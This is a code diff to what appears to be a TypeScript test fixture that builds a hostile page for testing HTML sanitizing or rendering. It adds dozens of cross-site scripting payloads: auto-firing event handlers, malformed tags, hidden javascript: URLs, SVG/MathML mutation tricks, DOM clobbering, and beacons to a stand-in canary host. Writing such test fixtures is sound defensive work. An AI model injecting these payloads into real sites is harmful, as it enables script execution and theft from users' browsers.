@@ -1,6 +1,8 @@
 /**
  * Ways of making a page run what its readers wrote, by the places they use: handlers, foreign elements,
  * addresses, documents inside documents, mark-up that changes its meaning when it is parsed twice, styles.
+ * They cover the classes of the published collections (the cheat sheets of OWASP and of PortSwigger, the
+ * HTML5 security cheat sheet, the fixtures of DOMPurify), in words of our own.
  * Every one of them would leave a number in `window.ran` and knock at the stand-in's `/canary`.
  */
 import { WEB } from "./web";
@@ -64,13 +66,87 @@ const WAYS: readonly ((js: string, n: number) => string)[] = [
   (js) => `&lt;img src=nope onerror="${js}"&gt;`,
   (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
   (js) => `{{constructor.constructor("${js}")()}} \${${js}}`,
+  // Events that need nobody's hand: animations, transitions, media, pages, elements that open or scroll.
+  (js, n) =>
+    `<style>@keyframes z${n}{}</style><b style="animation:z${n} 1s" onanimationstart="${js}" onanimationend="${js}" onwebkitanimationstart="${js}">дума</b>`,
+  (js) =>
+    `<b style="transition:outline 1s" ontransitionend="${js}" ontransitionrun="${js}" tabindex=1 autofocus>дума</b>`,
+  (js) =>
+    `<video controls autoplay oncanplay="${js}" onerror="${js}" onloadedmetadata="${js}"><track default oncuechange="${js}"></video>`,
+  (js) =>
+    `<div popover id="z" onbeforetoggle="${js}" ontoggle="${js}">дума</div><button popovertarget="z">още</button>`,
+  (js) => `<dialog open onclose="${js}" oncancel="${js}">дума</dialog>`,
+  (js) =>
+    `<div style="overflow:auto;height:1px" onscroll="${js}" onscrollend="${js}"><br><br><b autofocus tabindex=1>дума</b></div>`,
+  (js) =>
+    `<p onpointerrawupdate="${js}" onpointerenter="${js}" ontouchstart="${js}" onwheel="${js}" oncopy="${js}">дума</p>`,
+  (js) =>
+    `<b oncontentvisibilityautostatechange="${js}" style="display:block;content-visibility:auto">дума</b>`,
+  (js) =>
+    `<frameset onpageshow="${js}" onhashchange="${js}" onfocus="${js}"><frame src="javascript:parent.${js}"></frameset>`,
+  (js) =>
+    `<select onfocus="${js}" autofocus><option>дума</option></select><isindex type=image src=nope onerror="${js}">`,
+  // Tags and attributes in spellings that a parser mends and a filter does not expect.
+  (js) => `<sCrIpT x>${js}</ScRiPt x>`,
+  (js) => `<script/src="data:text/javascript,${js}"></script>`,
+  (js) => `<script ~~~>${js}</script ~~~>`,
+  (js) => `<img/src=nope/onerror="${js}">`,
+  (js) => `<img\u000csrc=nope\u000conerror="${js}">`,
+  (js) => `<img src=nope onerror\n=\n"${js}"//>`,
+  (js) => `<img src="nope" a=">" onerror="${js}">`,
+  (js) => `<img src=\`nope\` onerror=\`${js}\` onload="${js}">`,
+  (js) => `<svg/onload="${js}"//<p>дума`,
+  (js) => `<<img src=nope onerror="${js}">`,
+  (js) => `</p/onclick="${js}"><p onclick="${js}"/дума>`,
+  (js) => `<div ="<img src=nope onerror=${js}>" title='"><img src=nope onerror="${js}">'>дума</div>`,
+  (js) => `<!-- --!><img src=nope onerror="${js}"> -->`,
+  (js) => `<!doctype x [<!ENTITY z "<img src=nope onerror='${js}'>">]>&z;`,
+  // Addresses whose scheme is hidden, and elements that take one.
+  (js) => `<a href="\u0001javascript:${js}">дума</a><a href="java&Tab;script&NewLine;:${js}">дума</a>`,
+  (js) => `<a href="JaVaScRiPt://x%0a${js}">дума</a><a href="javascript:'<b>'+${js}">дума</a>`,
+  (js) => `<area href="javascript:${js}"><map name="z"><area shape="default" href="javascript:${js}"></map>`,
+  (js) =>
+    `<form id="z" action="javascript:${js}"></form><input form="z" type="submit" formaction="javascript:${js}">`,
+  (js) =>
+    `<object data="javascript:${js}"></object><embed src="javascript:${js}"><applet code="javascript:${js}">`,
+  (js) =>
+    `<iframe src="data:text/html;base64,${Buffer.from(`<script>parent.${js}</script>`).toString("base64")}"></iframe>`,
+  (js) => `<a href="https://x.example/&quot;onmouseover=&quot;${js}">дума</a>`,
+  (_, n) =>
+    `<a href="https://x.example/" ping="${WEB}/canary?${n}">дума</a><body background="${WEB}/canary?${n}">`,
+  (_, n) =>
+    `<video poster="${WEB}/canary?${n}"></video><input type="image" src="${WEB}/canary?${n}"><svg><image href="${WEB}/canary?${n}"/></svg>`,
+  (_, n) =>
+    `<link rel="dns-prefetch preconnect modulepreload icon" href="${WEB}/canary?${n}"><script type="speculationrules">{"prefetch":[{"urls":["${WEB}/canary?${n}"]}]}</script>`,
+  // Foreign elements, and what changes its meaning between two parsings.
+  (js) =>
+    `<svg><set attributeName="onmouseover" to="${js}"/><animate xlink:href="#z" attributeName="href" values="javascript:${js}"/></svg>`,
+  (js) =>
+    `<svg><style><img src=nope onerror="${js}"></style><desc><img src=nope onerror="${js}"></desc></svg>`,
+  (js) => `<svg></p><style><g title="</style><img src=nope onerror=&quot;${js}&quot;>">`,
+  (js) => `<math><mtext></form><form><mglyph><style></math><img src=nope onerror="${js}"></style>`,
+  (js) =>
+    `<math><annotation-xml encoding="text/html"><style><img src=nope onerror="${js}"></style></annotation-xml></math>`,
+  (js) =>
+    `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=nope onerror=&quot;${js}&quot;>">`,
+  (js) =>
+    `<noembed><p title="</noembed><img src=nope onerror=&quot;${js}&quot;>"></noembed><noframes><p title="</noframes><img src=nope onerror=&quot;${js}&quot;>"></noframes>`,
+  (js) =>
+    `<listing>&lt;img src=nope onerror="${js}"&gt;</listing><pre>\n&lt;script&gt;${js}&lt;/script&gt;</pre>`,
+  (js) => `<div><template shadowrootmode="open"><img src=nope onerror="${js}"></template></div>`,
+  (js) =>
+    `<form name="body"><input name="attributes"><input name="parentNode" onfocus="${js}"></form><a id="__NEXT_DATA__" name="next">дума</a>`,
+  (js) =>
+    `<b title="&lt;/b&gt;&lt;script&gt;${js}&lt;/script&gt;">&#x3c;script&#x3e;${js}&#x3c;/script&#x3e;</b>`,
+  (js) => `\u202e<b onclick="${js}">думи назад</b>\u2066 </script><script>${js}</script>`,
 ];
 
 const attribute = (text: string) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
 
 /** Closes whatever a piece may have opened, so that it does not swallow the next one. */
 const CLOSED =
-  "--></style></script></title></textarea></xmp></select></table></math></svg></template></noscript>";
+  "--></style></script></title></textarea></xmp></select></table></math></svg></template></noscript>" +
+  "</applet></mglyph></form></mtext></math></form>";
 
 /** A page whose every part is hostile: title, author, metadata, headline, text, lists, tables, posts. */
 export function hostilePage(): string {
